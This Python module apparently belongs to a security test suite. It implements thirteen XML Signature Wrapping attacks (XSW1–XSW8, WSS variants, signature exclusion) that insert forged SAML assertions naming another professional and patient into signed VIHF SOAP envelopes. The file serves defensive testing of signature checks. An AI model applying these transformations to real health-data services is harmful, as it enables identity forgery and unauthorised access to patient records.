"""XML Signature Wrapping transformations applied to a signed VIHF envelope.

The variants follow ``reference/security/xsw/`` (SAML Raider's ``XSWHelpers``; Somorovsky et
al., "On Breaking SAML", USENIX Security 2012; WSS4J ``ModifiedRequestTest``): the legitimate
assertion (signed with the test key by ``xds.vihf.sign_vihf``) is kept where the signature check
would find it, and an evil copy naming another professional and another patient is placed where
a naive reader would take it. XSW1/XSW2 are response-level in the templates: here the legitimate
assertion travels inside a ``samlp:Response`` (as an IdP would send it) and the Response is
wrapped the same way.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from xds import ns

SAML = f"{{{ns.SAML2}}}"
DS = f"{{{ns.DS}}}"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
RESOURCE_ID = "urn:oasis:names:tc:xacml:2.0:resource:resource-id"

Transform = Callable[[etree._Element], None]


def assertion_of(envelope: etree._Element) -> etree._Element:
    found = envelope.find(f"{{{ns.SOAP12}}}Header/{{{ns.WSSE}}}Security/{SAML}Assertion")
    assert found is not None
    return found


def make_evil(
    assertion: etree._Element,
    *,
    attacker: str,
    patient: str,
    oid: str,
    new_id: str | None,
    keep_signature: bool,
) -> etree._Element:
    evil = copy.deepcopy(assertion)
    if new_id is not None:
        evil.set("ID", new_id)
    if not keep_signature:
        for signature in evil.findall(f"{DS}Signature"):
            evil.remove(signature)
    name_id = evil.find(f"{SAML}Subject/{SAML}NameID")
    assert name_id is not None
    name_id.text = attacker
    for attribute in evil.iter(f"{SAML}Attribute"):
        if attribute.get("Name") == RESOURCE_ID:
            value = attribute.find(f"{SAML}AttributeValue")
            assert value is not None
            value.text = f"{patient}^^^&{oid}&ISO^NH"
    return evil


def unsigned_copy(assertion: etree._Element) -> etree._Element:
    legit = copy.deepcopy(assertion)
    for signature in legit.findall(f"{DS}Signature"):
        legit.remove(signature)
    return legit


def _response(child: etree._Element, rid: str) -> etree._Element:
    response = etree.Element(f"{{{SAMLP}}}Response", ID=rid, Version="2.0", nsmap={"samlp": SAMLP})
    status = etree.SubElement(response, f"{{{SAMLP}}}Status")
    etree.SubElement(
        status, f"{{{SAMLP}}}StatusCode", Value="urn:oasis:names:tc:SAML:2.0:status:Success"
    )
    response.append(child)
    return response


def variants(attacker: str, patient: str, oid: str) -> dict[str, Transform]:
    """name -> in-place transformation of a signed envelope (see the module docstring)."""

    def evil_of(legit: etree._Element, new_id: str | None, keep: bool) -> etree._Element:
        return make_evil(
            legit, attacker=attacker, patient=patient, oid=oid, new_id=new_id, keep_signature=keep
        )

    def xsw1(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        security = legit.getparent()
        assert security is not None
        evil_response = _response(evil_of(legit, "_evil", False), "_evil_response")
        signature = legit.find(f"{DS}Signature")
        assert signature is not None
        security.replace(legit, evil_response)
        evil_response.insert(0, copy.deepcopy(signature))
        evil_response[0].append(_response(legit, "_resp"))

    def xsw2(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        security = legit.getparent()
        assert security is not None
        evil_response = _response(evil_of(legit, "_evil", False), "_evil_response")
        security.replace(legit, evil_response)
        evil_response.insert(0, _response(legit, "_resp"))

    def xsw3(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        legit.addprevious(evil_of(legit, "_evil", False))

    def xsw4(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        evil = evil_of(legit, "_evil", False)
        parent = legit.getparent()
        assert parent is not None
        parent.replace(legit, evil)
        evil.append(legit)

    def xsw5(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        original = unsigned_copy(legit)
        evil = evil_of(legit, "_evil", True)
        security = legit.getparent()
        assert security is not None
        security.replace(legit, evil)
        security.append(original)

    def xsw6(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        original = unsigned_copy(legit)
        evil = evil_of(legit, "_evil", True)
        parent = legit.getparent()
        assert parent is not None
        parent.replace(legit, evil)
        signature = evil.find(f"{DS}Signature")
        assert signature is not None
        signature.append(original)

    def xsw7(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        extensions = etree.Element("Extensions")
        extensions.append(evil_of(legit, None, False))
        legit.addprevious(extensions)

    def xsw8(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        original = unsigned_copy(legit)
        evil = evil_of(legit, None, True)
        parent = legit.getparent()
        assert parent is not None
        parent.replace(legit, evil)
        signature = evil.find(f"{DS}Signature")
        assert signature is not None
        etree.SubElement(signature, f"{DS}Object").append(original)

    def duplicate_assertion_id(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        legit.addnext(evil_of(legit, None, False))

    def signed_body_moved_to_header(envelope: etree._Element) -> None:
        body = envelope.find(f"{{{ns.SOAP12}}}Body")
        assert body is not None
        body.set(f"{{{ns.WSU}}}Id", "body")
        assertion_of(envelope).addnext(copy.deepcopy(body))

    def evil_assertion_in_body(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        body = envelope.find(f"{{{ns.SOAP12}}}Body")
        assert body is not None
        body[0].append(evil_of(legit, "_evil", True))  # inside the request element

    def signature_exclusion(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        parent = legit.getparent()
        assert parent is not None
        parent.replace(legit, evil_of(legit, None, False))

    def evil_only_signature_kept(envelope: etree._Element) -> None:
        legit = assertion_of(envelope)
        parent = legit.getparent()
        assert parent is not None
        parent.replace(legit, evil_of(legit, None, True))

    return {
        "xsw1_response_clone_inside_signature": xsw1,
        "xsw2_response_clone_before_signature": xsw2,
        "xsw3_evil_sibling_before": xsw3,
        "xsw4_original_wrapped_in_evil": xsw4,
        "xsw5_evil_keeps_signature_legit_copy_appended": xsw5,
        "xsw6_legit_copy_inside_signature": xsw6,
        "xsw7_evil_in_extensions_same_id": xsw7,
        "xsw8_legit_copy_in_signature_object": xsw8,
        "wss_duplicate_assertion_id": duplicate_assertion_id,
        "wss_signed_body_moved_to_header": signed_body_moved_to_header,
        "evil_assertion_in_body": evil_assertion_in_body,
        "signature_exclusion": signature_exclusion,
        "evil_content_under_legit_signature": evil_only_signature_kept,
    }
